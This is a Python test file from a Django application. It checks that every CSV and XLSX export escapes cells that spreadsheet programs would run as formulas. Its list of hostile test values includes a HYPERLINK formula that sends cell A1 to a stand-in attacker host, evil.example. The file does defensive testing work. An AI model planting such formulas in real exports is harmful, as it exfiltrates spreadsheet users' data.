"""Every spreadsheet export neutralises cells a spreadsheet would run as a formula.

The test finds every export by walking the URL conf (views marked with
`alliance.exports.export_view`), fills a collective with organisations whose names are
formulas, downloads each export and opens it as a spreadsheet program would. A view that
writes CSV or XLSX without the helper fails the source check below.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver

from alliance.exports import DANGEROUS_STARTS, safe_cell
from surveys.tests.conftest import survey  # noqa: F401 - the fixture

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed Surgery",
    "\rReturned Surgery",
]


def _export_routes(resolver: URLResolver | None = None, prefix: str = "") -> list[tuple[str, str]]:
    resolver = resolver or get_resolver()
    found = []
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            found += _export_routes(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern) and getattr(entry.callback, "returns_export", False):
            found.append((entry.name or "", prefix + str(entry.pattern)))
    return found


def test_it_knows_every_export_view():
    names = {name for name, _ in _export_routes()}
    assert names == {"round_csv", "round_xlsx"}


def test_no_view_writes_a_spreadsheet_without_the_helper():
    writers = re.compile(r"csv\.writer|text/csv|openpyxl|spreadsheetml")
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "bench/")) or "/tests/" in relative:
            continue
        if relative in ("alliance/exports.py",) or relative.startswith("directory/ods/"):
            continue  # the helper itself; the ODS readers read CSV, they write none
        if writers.search(path.read_text()):
            offenders.append(relative)
    assert offenders == []


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell(-2.5) == -2.5 and safe_cell(3) == 3
    assert safe_cell("Oak Surgery") == "Oak Surgery"


def _rows(response) -> list[list[str]]:
    if response["Content-Type"].startswith("text/csv"):
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            rows.append(["" if c.value is None else c.value for c in row])
    return rows


def test_every_export_neutralises_formula_cells(client, survey):  # noqa: F811
    """A round whose organisations are named like formulas: every export writes the names as
    text starting with an apostrophe, and no text cell starts as a formula would."""
    from surveys.models import RoundParticipant

    for rep, name in zip(survey.reps, HOSTILE, strict=False):
        rep.organisation.name = name
        rep.organisation.save()
    for rater in survey.reps:
        for ratee in survey.reps:
            if rater != ratee:
                survey.answer(rater, ratee)
    survey.close()
    assert RoundParticipant.objects.filter(round=survey.round).count() == 4
    client.force_login(survey.convenor.user)
    kwargs = {"slug": survey.round.collective.slug, "pk": survey.round.pk}
    checked = 0
    for _name, route in _export_routes():
        url = "/" + re.sub(r"<(?:\w+:)?(\w+)>", lambda m: str(kwargs[m.group(1)]), route)
        response = client.get(url)
        assert response.status_code == 200, url
        assert "attachment" in response["Content-Disposition"]
        cells = [str(value) for row in _rows(response) for value in row]
        for hostile in HOSTILE[:4]:
            assert "'" + hostile in cells, (url, hostile)
        for cell in cells:
            if cell.startswith(DANGEROUS_STARTS):
                float(cell)  # only numbers (a negative gap) may start so
        checked += 1
    assert checked == 2
